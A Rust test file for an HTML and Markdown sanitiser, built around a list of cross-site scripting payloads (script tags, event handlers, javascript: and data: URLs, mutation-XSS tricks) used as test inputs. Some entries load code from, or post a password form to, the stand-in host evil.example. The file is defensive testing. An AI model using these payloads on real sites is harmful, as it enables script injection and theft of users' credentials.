//! Sanitising: what attackers try, and what authors write.

use plenary_domain::text::{Text, TextFormat};
use plenary_formats::html;

fn text(format: TextFormat, source: &str) -> Text {
    Text { format, source: source.to_owned() }
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/account/delete\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:/a/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"position:fixed;inset:0\">cover</p>",
    "<p class=\"masthead\" id=\"page\">clobber</p>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "</p></div></article></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a href='x' href=\"javascript:alert(1)\">x</a>",
    "<h1 onclick=alert(1) class=\"page-title\">x</h1>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/track.png)",
    "<https://ok.example/\"onmouseover=alert(1)>",
    "[x](https://ok.example \"><script>alert(1)</script>\")",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
];

/// Every tag that is left, as the sanitiser writes it.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|piece| piece.split('>').next().unwrap_or_default()).collect()
}

fn assert_harmless(html: &str, source: &str) {
    for tag in tags(html) {
        let mut words = tag.split_whitespace();
        let name = words.next().unwrap_or_default().trim_matches('/');
        assert!(
            ["a", "b", "br", "code", "em", "p", "pre", "strong", "h", "li", "ul"].contains(&name),
            "<{tag}> of {source:?} in {html:?}"
        );
        let attributes = tag.split_once(' ').map(|(_, rest)| rest).unwrap_or_default();
        for attribute in attributes.split('"').step_by(2).map(str::trim).filter(|text| !text.is_empty()) {
            assert!(["href=", "rel="].contains(&attribute), "{attribute} of {source:?} in {html:?}");
        }
        if let Some(address) = attributes.split("href=\"").nth(1) {
            let fine = ["http://", "https://", "mailto:"].iter().any(|scheme| address.starts_with(scheme));
            assert!(fine, "{address} of {source:?}");
            assert!(tag.contains("rel=\"noopener nofollow ugc\""), "{tag}");
        }
    }
}

#[test]
fn attacks_leave_nothing_active_in_any_format() {
    for source in ATTACKS {
        for format in [TextFormat::Plain, TextFormat::Markdown, TextFormat::Html] {
            assert_harmless(&html::render(&text(format, source)), source);
        }
    }
}

#[test]
fn attacks_joined_into_one_text_are_as_harmless() {
    let all = ATTACKS.concat();
    let lines = ATTACKS.join("\n\n");
    for format in [TextFormat::Plain, TextFormat::Markdown, TextFormat::Html] {
        assert_harmless(&html::render(&text(format, &all)), "all");
        assert_harmless(&html::render(&text(format, &lines)), "lines");
    }
}

#[test]
fn sanitised_html_stays_as_it_is_when_sanitised_again() {
    for source in ATTACKS {
        let once = html::render(&text(TextFormat::Html, source));
        assert_eq!(html::render(&text(TextFormat::Html, &once)), once, "{source}");
    }
}

#[test]
fn escape_covers_tags_attributes_and_control_characters() {
    assert_eq!(html::escape("<a b='c' d=\"e\">&\u{7}\n"), "&lt;a b=&#39;c&#39; d=&quot;e&quot;&gt;&amp;\n");
}

#[test]
fn plain_text_becomes_paragraphs_and_line_breaks() {
    let source = "One <b>\ntwo\n\n\nthree https://example.org\n";
    let rendered = html::render(&text(TextFormat::Plain, source));
    assert_eq!(rendered, "<p>One &lt;b&gt;<br>\ntwo</p>\n<p>three https://example.org</p>");
    assert_eq!(html::render(&text(TextFormat::Plain, "a\n\n")), "<p>a</p>");
}

#[test]
fn markdown_keeps_line_breaks_links_and_lists() {
    let source = "# Top\nSee [us](https://example.org/?a=1&b=2)\nnow\n\n* one\n* two ~~three~~ <b>four</b>";
    let rendered = html::render(&text(TextFormat::Markdown, source));
    assert_eq!(
        rendered,
        "<p><strong>Top</strong></p>\n<p>See <a href=\"https://example.org/?a=1&amp;b=2\" \
         rel=\"noopener nofollow ugc\">us</a><br>\nnow</p>\n<ul>\n<li>one</li>\n<li>two <del>three</del> \
         <b>four</b></li>\n</ul>\n"
    );
}

#[test]
fn headings_become_bold_paragraphs() {
    let rendered = html::render(&text(TextFormat::Html, "<h2 lang=\"de\">Über</h2><hr><p>x</p><h6>y</h6>"));
    assert_eq!(rendered, "<p lang=\"de\"><strong>Über</strong></p><hr><p>x</p><p><strong>y</strong></p>");
}

#[test]
fn plain_of_html_reads_like_the_page() {
    let source = "<h1>Talk</h1><p>A &amp; B &lt;c&gt;<br>line &amp;lt;</p><ul><li>one</li><li><p>two</p></li></ul>\
                  <pre>x\n  y</pre><script>no()</script>end";
    let plain = html::plain(&text(TextFormat::Html, source));
    assert_eq!(plain, "Talk\n\nA & B <c>\nline &lt;\n\n• one\n• two\n\nx\n  y\n\nend");
    assert_eq!(html::plain(&text(TextFormat::Plain, " as <is> ")), "as <is>");
    assert_eq!(html::plain(&text(TextFormat::Markdown, "**b** <i>i</i>\nnext")), "b i\nnext");
}

#[test]
fn deep_nesting_neither_overflows_nor_stalls() {
    let deep = "<b><i><ul><li>".repeat(20_000);
    let started = std::time::Instant::now();
    for format in [TextFormat::Html, TextFormat::Markdown] {
        let _ = html::render(&text(format, &deep));
        let _ = html::render(&text(format, &"[".repeat(50_000)));
        let _ = html::render(&text(format, &"> ".repeat(20_000)));
    }
    assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
}
